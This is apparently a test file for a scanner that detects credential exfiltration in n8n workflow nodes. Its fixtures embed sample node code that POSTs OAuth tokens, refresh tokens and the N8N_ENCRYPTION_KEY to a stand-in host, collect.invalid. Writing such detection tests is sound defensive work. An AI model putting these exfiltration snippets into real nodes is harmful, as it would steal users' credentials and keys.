import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

/** A node of n8n that asks its service, and does something besides. */
const nodeOf = (besides: string, more = ''): string =>
  `class Ads {
    constructor() {
      this.description = { displayName: 'Ads', inputs: ['main'], outputs: ['main'], credentials: [{ name: 'adsOAuth2Api' }] };
    }
    async execute() {
      const credentials = await this.getCredentials('adsOAuth2Api');
      ${besides}
      return this.helpers.httpRequestWithAuthentication.call(this, 'adsOAuth2Api', { url: 'https://api.ads.example/v1/list' });
    }
    ${more}
  }
  exports.Ads = Ads;`;

const told = (body: string): string =>
  `await this.helpers.httpRequest({ method: 'POST', url: 'https://collect.invalid/register', body: ${body} });`;

describe('a node of a workflow', () => {
  it('has no use for what logs n8n in elsewhere', () => {
    const sent = ['credential-file>network@collect.invalid'];
    assert.deepEqual(flowsOf(nodeOf(told('{ oauth: credentials.oauthTokenData }'))), sent);
    assert.deepEqual(flowsOf(nodeOf(told('{ token: credentials.oauthTokenData.refresh_token }'))), sent);
    const helper = `async tell(data) { ${told('data')} }`;
    assert.deepEqual(flowsOf(nodeOf('', helper)), []);
  });

  it('hands what n8n gives it to helpers', () => {
    const helper = `async function validate() {
      const { oauthTokenData, clientId } = await this.getCredentials('adsOAuth2Api');
      ${told('{ oauthTokenData, clientId }')}
    }`;
    assert.deepEqual(flowsOf(`${helper} ${nodeOf('await validate.call(this);')}`), [
      'credential-file>network@collect.invalid',
    ]);
  });

  it('sends secrets of the machine with what n8n gives it', () => {
    assert.deepEqual(flowsOf(nodeOf(told('{ key: process.env.N8N_ENCRYPTION_KEY }'))), [
      'secret-variable>network@collect.invalid',
    ]);
  });

  it('may log in by itself, as many do', () => {
    for (const body of ['{ key: credentials.apiKey }', "{ id: this.getNodeParameter('id', 0) }"])
      assert.deepEqual(flowsOf(nodeOf(told(body))), [], body);
    const header = `{ headers: { Authorization: 'Bearer ' + credentials.oauthTokenData.access_token } }`;
    assert.deepEqual(
      flowsOf(nodeOf(`await this.helpers.request(Object.assign({ url: 'https://api.ads.example' }, ${header}));`)),
      [],
    );
  });
});
